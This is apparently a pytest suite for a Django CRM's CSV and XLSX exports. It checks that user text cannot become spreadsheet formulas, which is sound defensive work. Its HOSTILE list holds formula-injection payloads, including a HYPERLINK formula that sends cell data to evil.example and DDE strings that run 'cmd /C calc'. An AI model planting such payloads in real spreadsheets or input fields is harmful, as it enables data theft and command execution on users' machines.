"""No file the product writes for a spreadsheet holds a formula made of user data (issue 11, finding 3's class).

Every export is tried with hostile text in every free-text column of the rows it lists (a client named
`=HYPERLINK(...)`, a lead named `+1+cmd|' /C calc'!A0`, ...): XLSX files must hold no formula cell at all,
CSV files no cell a spreadsheet would run, and the hostile text must be in the file (as text), so the check
is not vacuous. The export routes are found, not listed: every list viewset's `export` action, every admin
changelist with an "Export XLSX" button, and every API operation whose answer is a CSV or XLSX file; a new
one fails `test_every_export_is_checked` until `FILES` says how to fetch it. Two files are reached in other
ways and listed by hand: the admin's statement download and the lead import's rejected-rows report.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.db import models
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from crm.core.api.exports import ExportableViewSetMixin
from crm.core.exports.admin import ExportAdminMixin
from crm.core.files import unsign_file_token
from crm.core.models import ExportJob
from crm.core.roles import Role
from crm.customers.models import Customer
from crm.reports import services as report_services
from crm.reports.models import ReportRun
from crm.reports.sources import SOURCES
from crm.sales.models import LeadImport
from crm.trading import services as trading_services
from crm.wallets import services
from crm.wallets.models import Transaction, Wallet
from tests.affiliates.api_factories import log_in, portal_affiliate
from tests.core.factories import ActivityFactory
from tests.customers.factories import PortalCustomerFactory, bearer
from tests.harness import bodies
from tests.harness.routes import Route, program_routes
from tests.sales.factories import LeadFactory
from tests.trading.factories import InstrumentFactory, TradingAccountFactory, quote
from tests.users.factories import ApiTokenFactory, StaffUserFactory
from tests.wallets.factories import TransactionFactory, WalletFactory
from tests.wallets.helpers import admin_statement_period, fund

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
FILE_TYPES = {"text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Free-text columns a hostile value would break rather than test: codes other rows or programs look up.
NOT_FREE_TEXT = {"currency", "language", "target_type", "channel", "action"}


# The hostile world ----------------------------------------------------------------------------------


def _unique(model: type[models.Model], field: models.Field) -> bool:
    """Unique on its own: by the field, or by a table constraint on that one column."""
    return field.unique or any(
        isinstance(constraint, models.UniqueConstraint) and tuple(constraint.fields) == (field.name,)
        for constraint in model._meta.constraints
    )


def _free_text_fields(model: type[models.Model]) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if type(field) in (models.CharField, models.TextField)
        and not (field.choices or _unique(model, field) or field.primary_key or field.name in NOT_FREE_TEXT)
    ]


def make_hostile(model: type[models.Model]) -> None:
    """Every free-text column of every row of `model` holds one of the hostile values (cycled per column)."""
    for number, field in enumerate(_free_text_fields(model)):
        value = HOSTILE[number % len(HOSTILE)]
        model.objects.update(**{field.name: value[: field.max_length] if field.max_length else value})


def _exported_models() -> set[type[models.Model]]:
    # A viewset scoped in get_queryset has no class queryset: its serializer names the model.
    api = {
        (route.view_class.queryset or route.view_class.serializer_class.Meta.model.objects).model
        for route in job_export_routes()
    }
    changelists = {model_admin.model for model_admin in export_admins()}
    return api | changelists | {Customer, Transaction}


def _post_hostile_entry(wallet: Wallet) -> None:
    """Ledger rows cannot be changed afterwards: the statement's description is hostile from the start (a staff
    member's comment on a manual movement becomes the entry's description)."""
    services.post_entry(
        idempotency_key=f"hostile:{wallet.pk}",
        postings=[(wallet, Decimal("100")), (services.system_account("adjustments", wallet.currency_id), -100)],
        kind="CORRECTION",
        description=HOSTILE[0],
    )


def _trading_rows(customer: Customer) -> None:
    """An instrument, a pending order and an open position of a client (their exports show the client's name)."""
    instrument = InstrumentFactory(symbol="EURUSD")
    quote(instrument, "1.10000", "1.10020")
    account = fund(TradingAccountFactory(customer=customer), "5000.00")
    trading_services.place_order(
        account, instrument=instrument, side="sell", lots=Decimal("0.10"), order_type="limit", price=Decimal("1.2")
    )
    trading_services.place_order(account, instrument=instrument, side="buy", lots=Decimal("0.10"))


@pytest.fixture
def world(settings):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    staff_token = ApiTokenFactory(role=Group.objects.get(name=str(Role.ADMIN)))
    affiliate = portal_affiliate()
    superuser = StaffUserFactory(is_superuser=True)
    for _ in range(2):
        referral = PortalCustomerFactory(introducer=affiliate.customer)
        wallet = WalletFactory(customer=referral)
        _post_hostile_entry(wallet)
        TransactionFactory(wallet=wallet)
        LeadFactory(customer=referral)
        LeadFactory(sales_person=superuser)  # the admin's lead list shows "my leads" first
    ActivityFactory()
    _trading_rows(PortalCustomerFactory())
    for model in _exported_models():
        make_hostile(model)
    return {"token": staff_token.raw_key, "affiliate": affiliate, "superuser": superuser}


# What the files hold ---------------------------------------------------------------------------------


def _runnable(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)


def _holds_hostile(text: str) -> bool:
    return any(value in text for value in HOSTILE)


def problems_in(content: bytes, content_type: str) -> tuple[list[str], bool]:
    """(cells a spreadsheet would run, whether any hostile value is in the file as text)."""
    if content_type.startswith("text/csv"):
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
        return [cell for cell in cells if _runnable(cell)], any(_holds_hostile(cell) for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    formulas = [match.decode() for sheet in sheets for match in re.findall(rb"<(?:\w+:)?f[ >][^<]*", sheet)]
    workbook = load_workbook(io.BytesIO(content))
    values = [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    workbook_formulas = [
        cell.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
        if cell.data_type == "f"
    ]  # fmt: skip
    return formulas + workbook_formulas, any(isinstance(value, str) and _holds_hostile(value) for value in values)


# The exports -----------------------------------------------------------------------------------------


def job_export_routes() -> list[Route]:
    return [
        route
        for route in program_routes()
        if route.action == "export" and route.view_class and issubclass(route.view_class, ExportableViewSetMixin)
    ]


def file_routes() -> list[Route]:
    """API operations whose answer is a CSV or XLSX file, from the schema."""
    found = []
    for route in program_routes():
        operation = bodies.operation(route.path, route.method) or {}
        content = operation.get("responses", {}).get("200", {}).get("content", {})
        if FILE_TYPES & set(content):
            found.append(route)
    return found


def export_admins() -> list[admin.ModelAdmin]:
    return [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportAdminMixin)]


def _job_file(job: ExportJob) -> tuple[bytes, str]:
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE, job.error
    with job.file.open("rb") as handle:
        return handle.read(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def api_export(route: Route, world, django_capture_on_commit_callbacks) -> tuple[bytes, str]:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {world['token']}")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse(f"{route.namespace}:{route.name}"))
    assert response.status_code == 202, response.content[:300]
    return _job_file(ExportJob.objects.get(pk=response.json()["id"]))


def admin_export(model_admin: admin.ModelAdmin, world, client, django_capture_on_commit_callbacks):
    client.force_login(world["superuser"])
    url = reverse(model_admin._url_name("export_xlsx"))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url)
    assert response.status_code == 302, response.content[:300]
    return _job_file(ExportJob.objects.latest("pk"))


def _period() -> dict[str, str]:
    now = timezone.now()
    return {"start": (now - timedelta(days=1)).isoformat(), "end": (now + timedelta(days=1)).isoformat()}


def _answer(response) -> tuple[bytes, str]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body, response["Content-Type"]


def portal_statement(world) -> tuple[bytes, str]:
    client = APIClient()
    wallet = Wallet.objects.filter(customer__introducer=world["affiliate"].customer).first()
    bearer(client, wallet.customer)
    return _answer(client.get(reverse("portal:wallet-statement-xlsx", args=[wallet.pk]), _period()))


def backoffice_statement(world) -> tuple[bytes, str]:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {world['token']}")
    wallet = Wallet.objects.filter(customer__introducer=world["affiliate"].customer).first()
    return _answer(client.get(reverse("backoffice:wallet-statement-xlsx", args=[wallet.pk]), _period()))


def admin_statement(world, client) -> tuple[bytes, str]:
    client.force_login(world["superuser"])
    wallet = Wallet.objects.filter(customer__introducer=world["affiliate"].customer).first()
    params = {**admin_statement_period(), "format": "xlsx"}
    return _answer(client.get(reverse("admin:wallets_wallet_statement", args=[wallet.pk]), params))


def referrals_csv(world) -> tuple[bytes, str]:
    client = APIClient()
    log_in(client, world["affiliate"])
    return _answer(client.get(reverse("affiliate:referral-export")))


def lead_import_report(world, django_capture_on_commit_callbacks) -> tuple[bytes, str]:
    """Rows of an upload rejected for a bad email come back in the report as they were uploaded."""
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {world['token']}")
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["email", "first_name"])
    writer.writerows(["not-an-email", value] for value in HOSTILE)
    upload = ContentFile(text.getvalue().encode(), name="leads.csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("backoffice:lead-upload"), {"file": upload}, format="multipart")
    assert response.status_code == 202, response.content[:300]
    job = LeadImport.objects.latest("pk")
    assert job.report, "the upload was not rejected, so no report was written"
    token = client.get(reverse("backoffice:lead-import-detail", args=[job.pk])).json()["report_url"]
    signed = unsign_file_token(token.rstrip("/").rsplit("/", 1)[-1], user=job.owner)
    with job.report.storage.open(signed.name, "rb") as handle:
        return handle.read(), "text/csv"


FILES: dict[str, Callable] = {
    "portal:wallet-statement-xlsx GET": portal_statement,
    "backoffice:wallet-statement-xlsx GET": backoffice_statement,
    "affiliate:referral-export GET": referrals_csv,
}


def test_every_export_is_checked():
    unchecked = [route.id for route in file_routes() if route.id not in FILES]

    assert unchecked == [], f"add to FILES how to fetch the file of: {unchecked}"
    assert job_export_routes(), "no list export found: the discovery is broken"
    assert export_admins(), "no admin export found: the discovery is broken"


# Exports whose columns are all numbers, dates, codes and symbols: no cell holds text a user typed.
NO_FREE_TEXT = {"backoffice:position-export POST", "trading.InstrumentAdmin", "trading.OrderAdmin"}


def _assert_safe(content: bytes, content_type: str, *, free_text: bool = True) -> None:
    formulas, hostile_seen = problems_in(content, content_type)
    assert formulas == []
    assert hostile_seen or not free_text, "no hostile value in the file: the check would pass vacuously"


@pytest.mark.parametrize("route", job_export_routes(), ids=[route.id for route in job_export_routes()])
def test_list_export(route, world, django_capture_on_commit_callbacks):
    _assert_safe(*api_export(route, world, django_capture_on_commit_callbacks), free_text=route.id not in NO_FREE_TEXT)


@pytest.mark.parametrize("model_admin", export_admins(), ids=[str(model_admin) for model_admin in export_admins()])
def test_admin_export(model_admin, world, client, django_capture_on_commit_callbacks):
    content = admin_export(model_admin, world, client, django_capture_on_commit_callbacks)
    _assert_safe(*content, free_text=str(model_admin) not in NO_FREE_TEXT)


@pytest.mark.parametrize("name", list(FILES))
def test_file_answer(name, world):
    _assert_safe(*FILES[name](world))


def test_markets_file_download(world, client, django_capture_on_commit_callbacks):
    """Seed 001's `GET markets/download` and the admin's "Export markets file" start export jobs of their own
    (not found by the discovery above): instruments with hostile descriptions come out as text."""
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {world['token']}")
    with django_capture_on_commit_callbacks(execute=True):
        response = api.get("/back-api/backoffice/v2/markets/download")
    assert response.status_code == 200, response.content[:300]
    _assert_safe(*_job_file(ExportJob.objects.get(pk=response.json()["id"])))

    client.force_login(world["superuser"])
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post(reverse("admin:trading_instrument_export_markets_file"))
    assert started.status_code == 302
    _assert_safe(*_job_file(ExportJob.objects.latest("pk")))


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", sorted(SOURCES))
def test_report_run(kind, file_format, world):
    """Report files (crm.reports) go through the same cell rule: every report, both formats."""
    today = timezone.localdate()
    params = {"start": str(today - timedelta(days=1)), "end": str(today + timedelta(days=1))}
    run = ReportRun.objects.create(
        owner=world["superuser"], kind=kind, params=report_services.clean_params(kind, params), file_format=file_format
    )

    report_services.run_report(run.pk)

    run.refresh_from_db()
    assert run.status == ReportRun.Status.DONE, run.error
    with run.file.open("rb") as handle:
        content = handle.read()
    types = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
    _assert_safe(content, types[file_format])


def test_admin_statement(world, client):
    _assert_safe(*admin_statement(world, client))


def test_lead_import_report(world, django_capture_on_commit_callbacks):
    _assert_safe(*lead_import_report(world, django_capture_on_commit_callbacks))
